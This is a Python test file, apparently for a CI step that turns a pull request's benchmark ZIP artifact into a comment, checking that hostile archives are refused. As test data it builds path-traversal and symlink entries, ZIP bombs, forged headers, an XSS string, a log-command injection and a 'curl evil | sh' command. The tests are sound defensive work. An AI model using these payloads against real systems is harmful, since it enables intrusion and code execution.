"""What of a hostile pull request's artifact reaches the comment: nothing, or checked numbers."""

import dataclasses
import functools
import html
import io
import json
import stat
import tracemalloc
import zipfile

import pytest

from benchmarks import _pull_request
from benchmarks._pull_request import ArtifactError, Request, comment, is_stale, read_artifact
from benchmarks._report import Side, to_json
from benchmarks._verdict import Answer
from tests.comparisons import blind, failing, passing, without_gpu

BASE, HEAD, OTHER = "1" * 40, "2" * 40, "3" * 40
RUN = "https://github.com/rope-triton/rope-triton/actions/runs/1"
REQUEST = Request(base=BASE, head=HEAD, current=HEAD, run_url=RUN)
SIDES = {"base": Side(BASE, BASE), "head": Side(HEAD, HEAD), "reproduce": REQUEST.command}


@functools.cache
def written(make) -> str:
    return json.dumps(to_json(dataclasses.replace(make(), **SIDES)))


def document(make=failing, **changes) -> dict:
    return json.loads(written(make)) | changes


def archive(
    content, name="comparison.json", mode=stat.S_IFREG | 0o644, kind=zipfile.ZIP_DEFLATED
) -> bytes:
    content = json.dumps(content) if isinstance(content, dict) else content
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as opened:
        member = zipfile.ZipInfo(name)
        member.external_attr = mode << 16
        opened.writestr(member, content, kind)
    return file.getvalue()


# Where fields lie in an entry of the directory, and in the record at the end.
FLAGS, METHOD, VOLUME, OFFSET = 8, 10, 34, 42
END = {"disk": 4, "here": 8, "members": 10, "size": 12, "directory": 16, "comment": 20}


def rewritten(content: bytes, where: int, value: int, size=2, signature=b"PK\1\2") -> bytes:
    """An archive with another number in its directory, or in another record of it."""
    start = content.rindex(signature) + where
    return content[:start] + value.to_bytes(size, "little") + content[start + size :]


def ending(field: str, value: int, size=2) -> bytes:
    """An archive whose last record says something else."""
    return rewritten(archive("{}"), END[field], value, size, b"PK\5\6")


def streamed(content: str) -> bytes:
    """An archive as GitHub's uploader writes it: into a pipe, with the sizes after the content."""

    class Pipe(io.RawIOBase):
        data = b""

        def writable(self):
            return True

        def write(self, data):
            self.data += bytes(data)
            return len(data)

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as opened:
        opened.writestr("comparison.json", content)
    return pipe.data


def archive_of(*names) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as opened:
        for name in names:
            opened.writestr(name, "{}")
    return file.getvalue()


def changed(path, value, make=failing) -> dict:
    made = document(make)
    *parents, last = path
    inner = made
    for key in parents:
        inner = inner[key]
    inner[last] = value
    return made


@pytest.mark.parametrize("make", [passing, failing, blind, without_gpu])
def test_a_real_artifact_becomes_a_comment(make):
    read = read_artifact(archive(document(make)), REQUEST)
    text = comment(REQUEST, read)
    assert text.startswith(_pull_request.MARKER + "\n## ")
    assert read.answer is make().answer
    assert HEAD in text and RUN in text and "Stale" not in text
    assert len(text) < 65_536


TIMING = ("families", "gpu", "timings", 0)

REFUSED = {
    "missing file": (archive_of(), "only comparison.json may be in the archive"),
    "several files": (archive_of("comparison.json", "x"), "only comparison.json may be in"),
    "the same name twice": (archive_of("comparison.json", "./comparison.json"), "only comparison"),
    "climbing path": (archive("{}", "../comparison.json"), "only comparison.json may be in"),
    "absolute path": (archive("{}", "/etc/passwd"), "only comparison.json may be in"),
    "a directory": (archive("", "comparison.json/"), "only comparison.json may be in"),
    "a link": (archive("/etc/passwd", mode=stat.S_IFLNK | 0o777), "is no ordinary file"),
    "a device": (archive("{}", mode=stat.S_IFCHR | 0o777), "is no ordinary file"),
    "not an archive": (b"PK\3\4 no archive", "no archive can be read"),
    "an empty file": (b"", "no archive can be read"),
    "a name that is not UTF-8": (
        archive("{}", "comparison.jsoé").replace("é".encode(), b"\xff\xff"),
        "no archive can be read: UnicodeDecodeError",
    ),
    "a name with more behind a zero": (
        archive("{}", "comparison.json_evil").replace(b"_evil", b"\0evil"),
        "only comparison.json may be in",
    ),
    "bz2": (archive("{}", kind=zipfile.ZIP_BZIP2), "is neither stored nor deflated"),
    "LZMA": (archive("{}", kind=zipfile.ZIP_LZMA), "is neither stored nor deflated"),
    "an unknown kind": (rewritten(archive("{}"), METHOD, 99), "is neither stored nor deflated"),
    "corrupt content": (
        archive("{}" * 99).replace(archive("{}" * 99)[45:48], b"\xff\xff\xff"),
        "no archive can be read: error: Error -3 while decompressing",
    ),
    "a patch": (rewritten(archive("{}"), FLAGS, 0x20), "is encrypted, patched or split"),
    "another volume": (rewritten(archive("{}"), VOLUME, 7), "is encrypted, patched or split"),
    "content before the archive": (
        rewritten(archive("{}"), OFFSET, 0xFFFFFFF0, 4),
        "no archive can be read: ",
    ),
    "a directory before the archive": (ending("directory", 2**31, 4), "no archive can be read: "),
    "a directory of a gigabyte": (ending("size", 2**30, 4), "only comparison.json may be in"),
    "many members, said": (ending("members", 60_000), "only comparison.json may be in"),
    "many members, not said": (
        rewritten(archive_of(*map(str, range(20_000))), END["members"], 1, 2, b"PK\5\6"),
        "only comparison.json may be in",
    ),
    "two members, one said": (
        rewritten(
            rewritten(archive_of("comparison.json", "x"), END["members"], 1, 2, b"PK\5\6"),
            *(END["here"], 1, 2, b"PK\5\6"),
        ),
        "only comparison.json may be in",
    ),
    "a part of an archive": (ending("disk", 1), "it is a part of one"),
    "a comment": (ending("comment", 1) + b"x", "its end is missing"),
    "an archive of ZIP64": (
        archive("{}")[:-22] + b"PK\6\7" + bytes(16) + archive("{}")[-22:],
        "it is one of ZIP64",
    ),
    "a huge archive": (b"0" * 2_000_001, "the archive has more than 2000000 bytes"),
    "a ZIP bomb": (archive(b" " * 20_000_000), "has more than 4000000 bytes"),
    "not JSON": (archive("hello"), "is no JSON: Expecting value"),
    "not UTF-8": (archive(b'{"schema": "\xff"}'), "is no JSON: 'utf-8' codec"),
    "deeply nested": (archive("[" * 1_000_000), "is no JSON: maximum recursion"),
    "deeply nested objects": (archive('{"a":' * 500_000), "is no JSON: maximum recursion"),
    "a number of a million digits": (archive("1" * 1_000_000), "is no JSON: Exceeds the limit"),
    "a key twice": (archive('{"schema": 1, "schema": 1}'), "a key comes twice"),
    "another type": (archive("[]"), "a comparison is an object, got list"),
    "NaN": (archive(changed(["minutes"], float("nan"))), "NaN is no number"),
    "infinity": (archive(changed([*TIMING, "effect"], float("inf"))), "Infinity is no number"),
    "-infinity": (archive(changed([*TIMING, "low"], float("-inf"))), "-Infinity is no number"),
    "infinity, spelt out": (
        archive(json.dumps(document()).replace('"minutes": 3.62', '"minutes": 1e999')),
        "comparison.minutes must be a finite number",
    ),
    "a wrong type": (archive(changed(["rounds"], "12")), "comparison.rounds must be a whole"),
    "an unknown key": (archive(document(html="<b>")), r"comparison has unknown \['html'\]"),
    "a wrong answer": (archive(document(answer="pass")), "answer is 'pass', the rest says 'fail'"),
    "a forged head": (
        archive(changed(["head"], {"name": OTHER, "sha": OTHER})),
        f"commit {HEAD} was to be measured",
    ),
    "a forged base": (
        archive(changed(["base"], {"name": OTHER, "sha": OTHER})),
        f"commit {BASE} was to be measured",
    ),
    "an abbreviated head": (
        archive(changed(["head"], {"name": HEAD, "sha": HEAD[:10]})),
        f"commit {HEAD} was to be measured",
    ),
    "a name that is no SHA": (
        archive(changed(["head", "name"], "[main](https://evil)")),
        f"commit {HEAD} was to be measured",
    ),
    "a command to be copied": (
        archive(changed(["reproduce"], "curl evil | sh")),
        "it gives another command",
    ),
    "soft rules": (archive(changed(["rules", "min_effect"], 0.9)), "judged by other rules"),
    "impossible rounds": (archive(changed(["rounds"], 10**9)), "1000000000 rounds, 0 of them"),
    "impossible time": (archive(changed(["minutes"], -1)), "-1 minutes"),
    "impossible seconds": (archive(changed([*TIMING, "base"], 1e200)), "took more than 3600 s"),
    "impossible interval": (archive(changed([*TIMING, "low"], 1e200)), "does not hold its effect"),
    "impossible p": (archive(changed([*TIMING, "p_slower"], 7)), "is not between 0 and 1"),
    "a negative floor": (archive(changed([*TIMING, "floor"], -7)), "the floor is below"),
}


@pytest.mark.parametrize(("content", "message"), REFUSED.values(), ids=REFUSED)
def test_hostile_artifact_is_refused(content, message):
    with pytest.raises(ArtifactError, match=message):
        read_artifact(content, REQUEST)


def test_a_header_that_lies_about_the_size_gains_nothing():
    honest = archive(b" " * 10_000_000)
    lying = honest.replace((10_000_000).to_bytes(4, "little"), (100).to_bytes(4, "little"))
    assert lying != honest
    with pytest.raises(ArtifactError, match="no archive can be read: BadZipFile: Bad CRC"):
        read_artifact(lying, REQUEST)


@pytest.mark.parametrize("kind", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
@pytest.mark.parametrize("said", [None, 100])
def test_little_memory_is_spent_on_what_is_refused(kind, said):
    bomb = archive(b" " * 30_000_000, kind=kind)
    if said is not None:
        bomb = rewritten(bomb, 24, said, 4)
    tracemalloc.start()
    with pytest.raises(ArtifactError):
        read_artifact(bomb, REQUEST)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 2_000_000


@pytest.mark.parametrize(
    "content",
    [
        streamed(json.dumps(document())),
        archive(document(), kind=zipfile.ZIP_STORED),
        archive(document(), mode=0),
    ],
)
def test_what_uploaders_write_is_read(content):
    assert read_artifact(content, REQUEST).answer is Answer.FAIL


def test_encrypted_archive_is_refused():
    content = bytearray(archive(document()))
    for signature, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        content[content.index(signature) + offset] |= 1
    with pytest.raises(ArtifactError, match="no archive can be read: .*encrypted"):
        read_artifact(bytes(content), REQUEST)


def test_nothing_is_unpacked(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for content, _ in REFUSED.values():
        with pytest.raises(ArtifactError):
            read_artifact(content, REQUEST)
    read_artifact(archive(document()), REQUEST)
    assert list(tmp_path.iterdir()) == []


INJECTION = (
    "<img src=x onerror=alert(1)> [a](https://evil) @owner #1 ```\n# c `x` </pre> \ud800 \u202e"
)


def test_markdown_and_html_stay_text():
    made = document(notes=[INJECTION] * 30, wrong=[INJECTION] * 30, disturbed=[INJECTION])
    made |= {"machine": {INJECTION: INJECTION}, "grid": INJECTION}
    text = comment(REQUEST, read_artifact(archive(made), REQUEST))
    for bad in (
        "<img",
        "](https://evil",
        "@owner",
        "```",
        "\n# c",
        "://evil",
        "www.evil",
        "\ud800",
        "\u202e",
    ):
        assert bad not in text
    assert text.encode()


# From files to files, as the workflow runs it.


def report(tmp_path, content=None, **changes):
    """The comment, the status and the exit status of the command."""
    artifact = tmp_path / "artifact.zip"
    if content is not None:
        artifact.write_bytes(content)
    options = {"base": BASE, "head": HEAD, "current": HEAD, "run-url": RUN, "job": "success"}
    files = {"comment": tmp_path / "c.md", "status": tmp_path / "s.json", "artifact": artifact}
    given = options | {"tests": "success"} | files | changes
    arguments = [text for key, value in given.items() for text in (f"--{key}", str(value))]
    assert _pull_request.main(arguments) == 0
    return files["comment"].read_text(), json.loads(files["status"].read_text())


@pytest.mark.parametrize(
    ("make", "state"), [(passing, "success"), (failing, "failure"), (blind, "error")]
)
def test_status_follows_the_answer(tmp_path, make, state):
    text, status = report(tmp_path, archive(document(make)))
    answer = make().answer
    assert (status["state"], status["context"], status["target_url"]) == (state, "gpu", RUN)
    assert status["description"] == f"{answer.value}, against {BASE[:10]}"
    assert answer.value.upper() in text


@pytest.mark.parametrize(
    ("changes", "says", "state"),
    [
        ({"job": "failure", "tests": "failure"}, "The tests failed on the GPU", "failure"),
        ({"job": "failure"}, "ended without a measurement (failure)", "error"),
        ({"job": "cancelled", "tests": ""}, "ended without a measurement (cancelled)", "error"),
        ({}, "The artifact was refused: there is none", "error"),
    ],
)
def test_it_reports_when_there_is_nothing_to_report(tmp_path, changes, says, state):
    text, status = report(tmp_path, **changes)
    assert says in text and "NO VERDICT" in text and RUN in text
    assert text.startswith(_pull_request.MARKER)
    assert status["state"] == state


def test_an_artifact_of_a_job_that_failed_is_not_read(tmp_path):
    text, status = report(tmp_path, archive(document(passing)), job="failure")
    assert "NO VERDICT" in text and status["state"] == "error"


@pytest.mark.parametrize("content", [each for each, _ in REFUSED.values()], ids=REFUSED)
def test_a_refused_artifact_says_nothing_in_its_own_words(tmp_path, content):
    text, status = report(tmp_path, content)
    assert status["state"] == "error"
    assert "The artifact was refused: " in text
    for bad in ("<b>", "](https://evil", "://evil", "curl"):
        assert bad not in text


@pytest.mark.parametrize("name", ["read_artifact", "markdown"])
@pytest.mark.parametrize("error", [IndexError("secret"), RecursionError(), MemoryError()])
def test_whatever_goes_wrong_there_is_a_comment_and_a_status(
    tmp_path, capsys, monkeypatch, name, error
):
    def fail(*_):
        raise error

    monkeypatch.setattr(_pull_request, name, fail)
    text, status = report(tmp_path, archive(document(passing)))
    says = f"The artifact could not be read or shown: {type(error).__name__} in fail"
    assert says in text and says in capsys.readouterr().err
    assert "NO VERDICT" in text and status["state"] == "error" and "secret" not in text


def test_what_a_refusal_quotes_is_no_link(tmp_path):
    text, _ = report(tmp_path, archive("{}", f"GH-1 :tada: {OTHER[1:]}"))
    for bad in ("GH-1", ":tada:", OTHER[1:8]):
        assert bad not in html.unescape(text)


def test_what_a_refusal_quotes_is_inert(tmp_path, capsys):
    text, _ = report(tmp_path, archive("{}", INJECTION.replace("\ud800", "")))
    for said in (text.replace(f"]({RUN})", ""), capsys.readouterr().err):
        assert "img src x onerror alert(1)" in said
        for bad in ("<img", "](", "@owner", "#1", "```", "://evil", "www.", "\n# c", "\n::"):
            assert bad not in said
    # The log is read for commands by GitHub: a line that begins with two colons is one.
    text, _ = report(tmp_path, archive(document(**{"\n::error::x": 1})))
    assert "::" not in capsys.readouterr().err


def test_stale_sha_is_marked(tmp_path):
    text, status = report(tmp_path, archive(document(passing)), current=OTHER)
    assert f"**Stale:** of {HEAD}; the pull request is at {OTHER} now." in text
    assert status["state"] == "success"  # of the commit that it is set on
    assert is_stale(Request(BASE, HEAD, OTHER, RUN)) and not is_stale(REQUEST)


@pytest.mark.parametrize("sha", ["", "main", HEAD[:10], HEAD + "\n", HEAD.replace("2", "G")])
def test_a_request_names_full_commits(sha):
    with pytest.raises(ValueError, match="head must be a full SHA"):
        Request(base=BASE, head=sha, current=HEAD, run_url=RUN)


def test_answers_have_states():
    assert set(_pull_request._STATE) == set(Answer)
